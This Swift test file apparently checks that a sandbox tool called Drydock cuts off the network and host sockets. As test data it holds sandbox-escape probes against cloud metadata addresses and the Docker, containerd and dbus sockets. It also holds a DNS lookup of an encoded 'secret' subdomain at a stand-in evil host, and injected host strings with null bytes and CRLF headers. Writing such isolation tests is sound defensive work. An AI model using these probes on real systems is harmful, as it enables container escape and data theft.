import Foundation
import RunModel
import TestSupport
import Testing

/// Part E as far as it holds without a gateway: `--net none`. What an allow list adds (62 to 66) has
/// its tests with the gateway.
@Suite struct NetworkTests {
    /// Tries to connect and prints what came of it.
    static func client(_ targets: String) -> [String] {
        [
            "python3", "-c",
            """
            import socket
            for family, kind, address in [\(targets)]:
                try:
                    s = socket.socket(getattr(socket, "AF_" + family), getattr(socket, "SOCK_" + kind))
                    s.settimeout(2)
                    s.connect(address) if kind == "STREAM" else s.sendto(b"x", address)
                    print("reached", address)
                except OSError as e: print("refused", type(e).__name__, e)
            """,
        ]
    }

    /// 60 and 61: no address outside is reachable, by TCP or UDP.
    @Test func noAddressOutsideIsReachable() throws {
        let run = try Drydock.run(
            Self.client(
                """
                ("INET", "STREAM", ("169.254.169.254", 80)), ("INET", "STREAM", ("100.100.100.200", 80)),
                ("INET", "STREAM", ("10.0.0.1", 443)), ("INET", "STREAM", ("192.168.0.1", 80)),
                ("INET", "STREAM", ("172.17.0.1", 2375)), ("INET6", "STREAM", ("fd00:ec2::254", 80)),
                ("INET", "DGRAM", ("8.8.8.8", 53)), ("INET", "DGRAM", ("1.1.1.1", 443)),
                ("INET", "DGRAM", ("162.159.200.1", 123))
                """))
        #expect(run.status == 0, "\(run.errors)")
        #expect(!run.output.contains("reached"), "\(run.output)")
        #expect(run.output.split(separator: "\n").count { $0.hasPrefix("refused") } == 9)
    }

    /// 61: names do not resolve.
    @Test func namesDoNotResolve() throws {
        let run = try Drydock.run([
            "python3", "-c",
            """
            import socket
            for name in ("example.com", "c2VjcmV0.evil.example", "metadata.google.internal"):
                try: print("resolved", socket.getaddrinfo(name, 80))
                except OSError as e: print("refused", e)
            print("localhost", socket.gethostbyname("localhost"))
            """,
        ])
        #expect(!run.output.contains("resolved"))
        #expect(run.output.contains("localhost 127.0.0.1"))
    }

    /// 60 and 68: the host's loopback, and that of other sandboxes, is another one; one's own works.
    @Test func loopbackIsOnesOwn() throws {
        let listener = try Listener.loopback()
        let run = try Drydock.run(
            Self.client("(\"INET\", \"STREAM\", (\"127.0.0.1\", \(listener.port)))"))
        #expect(run.output.hasPrefix("refused"), "\(run.output) \(run.errors)")
        let own = try Drydock.run([
            "python3", "-c",
            """
            import socket
            s = socket.create_server(("127.0.0.1", 0))
            c = socket.create_connection(s.getsockname())
            print("own loopback works")
            """,
        ])
        #expect(own.output == "own loopback works\n", "\(own.errors)")
    }

    /// 67 and 69: sockets of the host's services are neither there by path nor by abstract name.
    @Test func unixSocketsOfTheHostAreOutOfReach() throws {
        try withTemporaryDirectory { directory in
            let name = "drydock-escape-\(UUID().uuidString)"
            let abstract = try Listener.unix(name)
            let named = try Listener.unix(directory + "/s")
            let run = try Drydock.run(
                Self.client(
                    """
                    ("UNIX", "STREAM", "\\0\(name)"), ("UNIX", "STREAM", "\(directory)/s"),
                    ("UNIX", "STREAM", "/var/run/docker.sock"), ("UNIX", "STREAM", "/run/systemd/notify"),
                    ("UNIX", "STREAM", "/run/dbus/system_bus_socket"),
                    ("UNIX", "STREAM", "/run/containerd/containerd.sock"),
                    ("UNIX", "STREAM", "/tmp/.X11-unix/X0"), ("UNIX", "STREAM", "\\0/tmp/.X11-unix/X0")
                    """))
            #expect(
                run.output.split(separator: "\n").count { $0.hasPrefix("refused") } == 8,
                "\(run.output)")
            #expect(abstract.descriptor >= 0 && named.descriptor >= 0)
            let table = try Drydock.script(
                "cat /proc/net/unix; env | grep -iE 'sock|dbus|agent|display'")
            #expect(!table.output.contains(name))
            #expect(!table.output.contains("SOCK"))
        }
    }

    /// 62, as far as it is the command line's: what is not a plain host name is refused before a start.
    @Test(arguments: [
        "allowed.com@evil.com", "evil.com%00.allowed.com", "evil.com/allowed.com", "a..b", "-a.com",
        "0x7f.1/", "[::1%25eth0]", "exa mple.com", "evil.com\r\nHost: allowed.com",
    ])
    func strangeHostNamesAreRefused(host: String) throws {
        let run = try Drydock.run(["/bin/true"], options: ["--net", "allow=" + host])
        #expect(run.status == 125, "\(host): \(run.status)")
        #expect(run.errors.split(separator: "\n").count == 1, "\(run.errors)")
    }
}
